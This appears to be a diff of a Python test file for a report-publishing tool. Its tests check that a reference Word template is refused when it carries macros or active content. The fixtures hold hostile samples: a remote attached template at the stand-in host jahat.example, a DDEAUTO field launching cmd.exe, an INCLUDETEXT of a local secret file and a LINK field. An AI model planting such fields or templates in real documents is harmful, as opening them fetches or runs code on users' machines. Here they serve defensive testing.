@@ -5,17 +5,14 @@ from __future__ import annotations
 import io
 import re
 import zipfile
-from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
+from alat_acuan import changed, field, foot, parts, relation
 
-from lkj.publish.docx import finish
-from lkj.publish.errors import EngineError
 from lkj.publish.layout import Layout, Properties
 from lkj.publish.pandoc import Pandoc
 from lkj.publish.periksa import pdf_text
-from lkj.publish.terbitkan import Assets, Publisher, check_reference
 from lkj.publish.typst import Layouter, fonts
 from lkj.report.lingkungan import package_templates
 
@@ -127,10 +124,10 @@ def test_the_docx_holds_no_field_picture_or_foreign_relation(markdown: str) -> N
     for name, part in parts.items():
         if not name.endswith(".rels"):
             continue
-        for relation in re.findall(r"<Relationship\b[^>]*>", part):
-            if 'TargetMode="External"' in relation:
-                assert re.search(r'Target="(https?://|mailto:)', relation)
-            assert not re.search(r'Target="(file|javascript|data|/etc)', relation)
+        for link in re.findall(r"<Relationship\b[^>]*>", part):
+            if 'TargetMode="External"' in link:
+                assert re.search(r'Target="(https?://|mailto:)', link)
+            assert not re.search(r'Target="(file|javascript|data|/etc)', link)
 
 
 def test_text_comes_out_as_it_went_in() -> None:
@@ -160,66 +157,28 @@ def test_code_of_the_project_is_not_run(proyek: Proyek, name: str) -> None:
     assert (code, stdout) == (0, "build/lkj-2024.docx\nbuild/lkj-2024.pdf\n")
 
 
-RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
-OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-LINKED = (
-    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate"'
-    ' Target="http://jahat.example/x.dotm" TargetMode="External"/></Relationships>'
-)
-FOOTER = (
-    '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-    '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>'
-)
-
-
-def reference(path: Path, **changed: str) -> Path:
-    """Write a copy of the shipped reference document in which some parts are others."""
-    with zipfile.ZipFile(REFERENCE) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
-    parts |= {name: text.encode() for name, text in changed.items()}
-    path.parent.mkdir(parents=True, exist_ok=True)
-    with zipfile.ZipFile(path, "w") as archive:
-        for name, data in parts.items():
-            archive.writestr(name, data)
-    return path
-
-
 @pytest.mark.parametrize(
-    "changed",
+    ("changes", "said"),
     [
-        {"word/vbaProject.bin": "makro"},
-        {"word/_rels/settings.xml.rels": LINKED},
-        {"word/_rels/settings.xml.rels": LINKED.replace('"', "'")},
-        {"word/_rels/settings.xml.rels": LINKED.replace('"External"', ' "&#69;xternal"')},
-        {
-            "word/_rels/settings.xml.rels": LINKED.replace("xmlns=", "xmlns:p=")
-            .replace("<R", "<p:R")
-            .replace("</R", "</p:R")
-        },
-        {"word/_rels/footer1.xml.rels": LINKED.replace("attachedTemplate", "image")},
-        {"word/footer1.xml": FOOTER.format(' INCLUDETEXT "C:\\\\rahasia.docx" ')},
-        {"word/footer1.xml": FOOTER.format(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')},
-        {"word/_rels/settings.xml.rels": "bukan xml"},
-    ],
-    ids=[
-        "makro",
-        "templat",
-        "templat-petik",
-        "templat-entitas",
-        "templat-awalan",
-        "gambar-luar",
-        "sisip-berkas",
-        "dde",
-        "rusak",
+        ({"word/vbaProject.bin": "makro"}, "word/vbaProject.bin"),
+        (
+            {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://jahat.example/x.dotm")},
+            "settings.xml.rels",
+        ),
+        ({"word/footer1.xml": foot(field("PAGE") + field("LINK Excel.Sheet.8 x"))}, "LINK Excel"),
+        ({"word/settings.xml": "bukan xml"}, "word/settings.xml"),
     ],
 )
-def test_a_dangerous_reference_document_is_refused(proyek: Proyek, changed: dict[str, str]) -> None:
-    """A styles document that would fetch or run something when the report is opened stops the build with exit 3."""
-    reference(proyek.root / "templates" / "reference.docx", **changed)
-    code, stdout, stderr = proyek.jalankan("build", "2024")
-    assert (code, stdout) == (3, "")
-    assert "reference.docx" in stderr
-    assert "saran: " in stderr
+def test_an_unfit_reference_document_is_a_finding(proyek: Proyek, changes: dict[str, str], said: str) -> None:
+    """What would fetch or run something when the report is opened stops check and build alike, with part and remedy."""
+    proyek.path("../../templates").mkdir()
+    proyek.path("../../templates/reference.docx").write_bytes(changed(**changes))
+    for command in (("check", "2024"), ("build", "2024"), ("build", "2024", "--format", "docx")):
+        code, stdout, stderr = proyek.jalankan(*command)
+        assert (code, stdout) == (1, "")
+        assert "templates/reference.docx:1:1: galat LKJ125:" in stderr
+        assert said in stderr
+        assert "saran: " in stderr
     assert not (proyek.root / "build").exists()
 
 
@@ -228,44 +187,30 @@ def test_a_broken_reference_document_is_refused(proyek: Proyek, text: str) -> No
     """A file that is no Word document is named, with the way back."""
     proyek.tulis("../../templates/reference.docx", text)
     code, _, stderr = proyek.jalankan("build", "2024")
-    assert code == 3
-    assert "reference.docx bukan dokumen Word yang utuh" in stderr
+    assert code == 1
+    assert "templates/reference.docx:1:1: galat LKJ125: bukan dokumen Word yang utuh" in stderr
 
 
-def test_a_restyled_reference_document_is_used(proyek: Proyek) -> None:
-    """An officer's own styles are taken: fields for page numbers and a link in the footer do no harm."""
-    path = reference(proyek.root / "templates" / "reference.docx", **{"word/footer1.xml": FOOTER.format(" PAGE ")})
-    check_reference(path)
+def test_a_document_without_word_asks_nothing_of_the_reference(proyek: Proyek) -> None:
+    """The web page takes no styles from it, so it is made."""
+    proyek.tulis("../../templates/reference.docx", "bukan zip")
+    assert proyek.jalankan("build", "2024", "--format", "html")[0] == 0
+
+
+def test_a_restyled_reference_document_is_used(proyek: Proyek, monkeypatch: pytest.MonkeyPatch) -> None:
+    """An officer's own styles are taken, from a copy of what was looked at, which is gone afterwards."""
+    monkeypatch.setattr("tempfile.tempdir", str(proyek.root))
+    proyek.path("../../templates").mkdir()
+    styles = parts()["word/styles.xml"].replace(b'w:val="22"', b'w:val="27"')
+    proyek.path("../../templates/reference.docx").write_bytes(changed(**{"word/styles.xml": styles}))
     assert proyek.jalankan("build", "2024", "--format", "docx")[0] == 0
+    with zipfile.ZipFile(proyek.root / "build" / "lkj-2024.docx") as made:
+        assert b'w:val="27"' in made.read("word/styles.xml")
+    assert not list(proyek.root.glob("lkj-*"))
 
 
-def test_a_refused_reference_document_leaves_no_engine_behind(tmp_path: Path) -> None:
-    """No pandoc is left waiting for input that never comes."""
-    path = reference(tmp_path / "reference.docx", **{"word/vbaProject.bin": "makro"})
-    started: list[Pandoc] = []
-
-    class Counted(Pandoc):
-        def __init__(self, to: str, **options: object) -> None:
-            super().__init__(to, **options)  # type: ignore[arg-type]
-            started.append(self)
-
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr("lkj.publish.terbitkan.Pandoc", Counted)
-        with pytest.raises(EngineError):
-            Publisher(Assets(FILTER, OWN / "laporan.typ", path, OWN / "web"), ("docx", "pdf"))
-    waiting = [engine for engine in started if engine._child.process.poll() is None]
-    for engine in waiting:
-        engine.stop()
-    assert not waiting
-
-
-def test_marks_of_the_filter_cannot_be_forged(tmp_path: Path) -> None:
-    """The finished DOCX has no field that prose wrote, even in the words that our own lists use."""
-    markdown = f"::: {{.daftar-isi}}\n:::\n\n# Satu\n\n`{FIELD}`{{=openxml}} INCLUDETEXT"
-    data = Pandoc("docx", lua_filter=FILTER, options=["--reference-doc", str(REFERENCE)]).convert(markdown)
-    done = finish(data, pages={}, pictures={}, picture_width=lambda _: 15.0, layout=Layout(), properties=ABOUT)
-    with zipfile.ZipFile(io.BytesIO(done)) as archive:
-        document = archive.read("word/document.xml").decode()
-    codes = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", document)
-    assert codes
-    assert all(code.split()[0] in ("TOC", "PAGEREF") for code in codes)
+def test_a_refused_reference_document_leaves_no_engine_behind(proyek: Proyek, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No pandoc is started for a report that cannot be made."""
+    proyek.tulis("../../templates/reference.docx", "bukan zip")
+    monkeypatch.setattr("lkj.publish.terbitkan.Pandoc", lambda *_, **__: pytest.fail("pandoc was started"))
+    assert proyek.jalankan("build", "2024")[0] == 1
